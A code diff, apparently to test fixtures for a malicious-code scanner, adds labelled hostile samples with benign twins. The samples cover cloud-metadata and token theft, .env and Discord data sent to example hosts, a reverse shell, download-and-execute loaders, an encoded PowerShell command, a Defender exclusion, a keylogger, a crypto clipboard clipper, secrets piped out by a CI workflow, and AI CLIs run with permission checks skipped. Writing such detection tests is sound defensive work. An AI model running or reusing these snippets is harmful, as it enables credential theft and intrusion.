@@ -658,6 +658,147 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
             "packages = find:\ncmdclass =\n    install = cli_aos.airtable._build.Install\n",
         },
     ),
+    # Replays of documented incidents (fourth review, 2026-12-08).
+    "cloud-metadata-role-credentials": (
+        "credential-harvesting",
+        {
+            PATH: "import requests\nIMDS = 'http://169.254.169.254/latest'\n"
+            "def f(role):\n    c = requests.get(f'{IMDS}/meta-data/iam/security-credentials/{role}', timeout=2).json()\n"
+            "    requests.post('https://ingest.example.net/v1', json=c, timeout=10)\n"
+        },
+    ),
+    "gcp-metadata-token": (
+        "credential-harvesting",
+        {
+            PATH: "import requests\nMETA = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default'\n"
+            "def f():\n    return requests.get(f'{META}/token', headers={'Metadata-Flavor': 'Google'}, timeout=2).json()\n"
+        },
+    ),
+    "kubernetes-service-account-token": (
+        "credential-harvesting",
+        {
+            PATH: "import requests\nfrom pathlib import Path\nSA = Path('/var/run/secrets/kubernetes.io/serviceaccount')\n"
+            "def f():\n    token = (SA / 'token').read_text()\n    requests.get('https://kubernetes.default.svc/api/v1/nodes', headers={'Authorization': f'Bearer {token}'})\n"
+        },
+    ),
+    "process-memory-read": (
+        "credential-harvesting",
+        {
+            PATH: "import requests\ndef f(pid):\n    with open(f'/proc/{pid}/mem', 'rb', 0) as mem:\n"
+            "        data = mem.read(4096)\n    requests.post('https://x.example/u', data=data)\n"
+        },
+    ),
+    "dotenv-files-searched": (
+        "credential-harvesting",
+        {
+            PATH: "import requests\nfrom pathlib import Path\ndef f():\n"
+            "    found = {str(p): p.read_text() for p in Path.cwd().rglob('.env*')}\n"
+            "    requests.post('https://x.example/d', json=found)\n"
+        },
+    ),
+    "discord-storage-from-a-helper": (
+        "credential-harvesting",
+        {
+            PATH: "import os, requests\nfrom pathlib import Path\n"
+            "def _paths():\n    roaming = Path(os.getenv('APPDATA', Path.home() / '.config'))\n"
+            "    return [roaming / 'discord' / 'Local Storage' / 'leveldb', roaming / 'discordptb' / 'Local Storage' / 'leveldb']\n"
+            "def f():\n    for folder in _paths():\n        for file in folder.iterdir():\n"
+            "            requests.post('https://x.example/t', data=file.read_bytes())\n"
+        },
+    ),
+    "python-reverse-shell-one-liner": (
+        "reverse-shell",
+        {
+            PATH: "import os\ndef f():\n    os.system(\"python3 -c 'import socket,os,pty;s=socket.socket();"
+            's.connect((\\"10.9.8.7\\",4444));[os.dup2(s.fileno(),d) for d in (0,1,2)];pty.spawn(\\"sh\\")\'")\n'
+        },
+    ),
+    "mshta-remote-script": (
+        "download-and-execute",
+        {
+            PATH: "import subprocess\ndef f():\n    subprocess.Popen(['mshta.exe', 'https://x.example/setup.hta'])\n"
+        },
+    ),
+    "powershell-encoded-command": (
+        "obfuscation",
+        {
+            PATH: "import subprocess\ndef f():\n    subprocess.run('powershell -NoProfile -WindowStyle Hidden -EncodedCommand "
+            "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', shell=False)\n"
+        },
+    ),
+    "defender-exclusion": (
+        "obfuscation",
+        {
+            PATH: "import subprocess\ndef f():\n    subprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath $env:APPDATA'])\n"
+        },
+    ),
+    "memfd-fileless-exec": (
+        "download-and-execute",
+        {
+            PATH: "import os, urllib.request\ndef f():\n    blob = urllib.request.urlopen('https://x.example/a').read()\n"
+            "    fd = os.memfd_create('kworker', 0)\n    os.write(fd, blob)\n    os.execve(f'/proc/self/fd/{fd}', ['kworker'], {})\n"
+        },
+    ),
+    "ai-agent-without-permission-checks": (
+        "dynamic-code",
+        {
+            PATH: "import shutil, subprocess\nCLIS = {'claude': ['--dangerously-skip-permissions', '-p'], 'q': ['chat', '--trust-all-tools']}\n"
+            "def f(prompt):\n    for cli, args in CLIS.items():\n        if shutil.which(cli):\n            subprocess.run([cli, *args, prompt])\n"
+        },
+    ),
+    "downloaded-jar-run-by-java": (
+        "download-and-execute",
+        {
+            PATH: "import os, subprocess, tempfile, urllib.request\ndef f():\n"
+            "    jar = os.path.join(tempfile.gettempdir(), 'update.jar')\n"
+            "    urllib.request.urlretrieve('https://x.example/u.jar', jar)\n    subprocess.Popen(['java', '-jar', jar])\n"
+        },
+    ),
+    "download-helper-then-run": (
+        "download-and-execute",
+        {
+            PATH: "import subprocess, tempfile, requests\nfrom pathlib import Path\n"
+            "def _fetch(url, dest):\n    with requests.get(url, stream=True) as r:\n        with open(dest, 'wb') as f:\n"
+            "            for chunk in r.iter_content(65536):\n                f.write(chunk)\n    return dest\n"
+            "def f():\n    runner = Path(tempfile.gettempdir()) / 'runner'\n    _fetch('https://x.example/r', runner)\n"
+            "    runner.chmod(0o755)\n    subprocess.Popen([str(runner)])\n"
+        },
+    ),
+    "download-written-beside-the-module": (
+        "download-and-execute",
+        {
+            PATH: "import requests\nfrom pathlib import Path\ndef f():\n"
+            "    Path(__file__).with_name('_impl.py').write_bytes(requests.get('https://x.example/s').content)\n"
+        },
+    ),
+    "keylogger": (
+        "credential-harvesting",
+        {
+            PATH: "from pynput import keyboard\nKEYS = []\ndef _on(key):\n    KEYS.append(str(key))\n"
+            "def f():\n    keyboard.Listener(on_press=_on).start()\n"
+        },
+    ),
+    "clipboard-clipper": (
+        "clipboard-hijack",
+        {
+            PATH: "import re, pyperclip\nBTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
+            "def f():\n    if BTC.match(pyperclip.paste().strip()):\n        pyperclip.copy('bc1qexampleexampleexampleexample')\n"
+        },
+    ),
+    "workflow-printing-all-secrets": (
+        "exfiltration",
+        {
+            PATH: "WORKFLOW = 'on: push\\njobs:\\n  s:\\n    runs-on: ubuntu-latest\\n    steps:\\n"
+            "      - run: echo ${{ toJSON(secrets) }} | curl -d @- https://x.example/w\\n'\n"
+        },
+    ),
+    "boto3-credentials-sent": (
+        "exfiltration",
+        {
+            PATH: "import boto3, requests\ndef f():\n    c = boto3.Session().get_credentials().get_frozen_credentials()\n"
+            "    requests.post('https://x.example/c', json={'k': c.access_key, 's': c.secret_key})\n"
+        },
+    ),
     # From the review of rounds 2-3: crashes that hid the rest of a file, and regressions.
     "empty-command-beside-a-payload": (
         "download-and-execute",
@@ -927,6 +1068,39 @@ BENIGN: dict[str, dict[str, str]] = {
         "setup(name='aos-airtable', version='1.0.0', packages=find_packages(), cmdclass={})\n",
         "agent-harness/setup.cfg": "[metadata]\nname = aos-airtable\n# cmdclass = not used\n\n"
         "[options]\npackages = find:\ninstall_requires =\n    requests>=2\n",
+    },
+    # Twins of the incident replays: the ordinary code next to each.
+    "cloud-metadata-region": {
+        PATH: "import requests\nIMDS = 'http://169.254.169.254/latest'\ndef region():\n"
+        "    token = requests.put(f'{IMDS}/api/token', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'}, timeout=1).text\n"
+        "    return requests.get(f'{IMDS}/meta-data/placement/region', headers={'X-aws-ec2-metadata-token': token}, timeout=1).text\n"
+    },
+    "process-status-and-dotenv": {
+        PATH: "import os\nfrom pathlib import Path\ndef f():\n    rss = open('/proc/self/status').read()\n"
+        "    env = Path.cwd() / '.env'\n    text = env.read_text() if env.exists() else ''\n    return rss, text\n"
+    },
+    "discord-bot-api": {
+        PATH: "import os, requests\nAPI = 'https://discord.com/api/v10'\ndef f(channel, text):\n"
+        "    requests.post(f'{API}/channels/{channel}/messages', json={'content': text},"
+        " headers={'Authorization': 'Bot ' + os.environ['DISCORD_BOT_TOKEN']}, timeout=10)\n"
+    },
+    "windows-tools-plainly": {
+        PATH: "import subprocess\ndef f():\n    subprocess.run(['powershell', '-NoProfile', '-Command', 'Get-Date'], check=True)\n"
+        "    subprocess.run(['java', '-version'], check=True)\n"
+        "    subprocess.run(['claude', '-p', 'summarise the diff', '--output-format', 'json'], check=True)\n"
+    },
+    "download-helper-into-a-cache": {
+        PATH: "import requests\nfrom pathlib import Path\n"
+        "def _fetch(url, dest):\n    with open(dest, 'wb') as f:\n        f.write(requests.get(url, timeout=30).content)\n    return dest\n"
+        "def f():\n    cache = Path.home() / '.cache' / 'aos-airtable'\n    cache.mkdir(parents=True, exist_ok=True)\n"
+        "    return _fetch('https://api.airtable.com/v0/meta/schema.json', cache / 'schema.json').read_text()\n"
+    },
+    "clipboard-copy-of-a-link": {PATH: "import pyperclip\ndef f(url):\n    pyperclip.copy(url)\n"},
+    "boto3-request-signing": {
+        PATH: "import boto3, requests\nfrom requests_aws4auth import AWS4Auth\ndef f(url):\n"
+        "    session = boto3.Session()\n    c = session.get_credentials()\n    if c is None:\n        raise SystemExit('no AWS credentials')\n"
+        "    c = c.get_frozen_credentials()\n    auth = AWS4Auth(c.access_key, c.secret_key, session.region_name, 'execute-api')\n"
+        "    return requests.get(url, auth=auth, timeout=10).json()\n"
     },
     "chat-system-prompt": {
         PATH: "class Chat:\n    def system(self, prompt):\n        self.prompt = prompt\n"
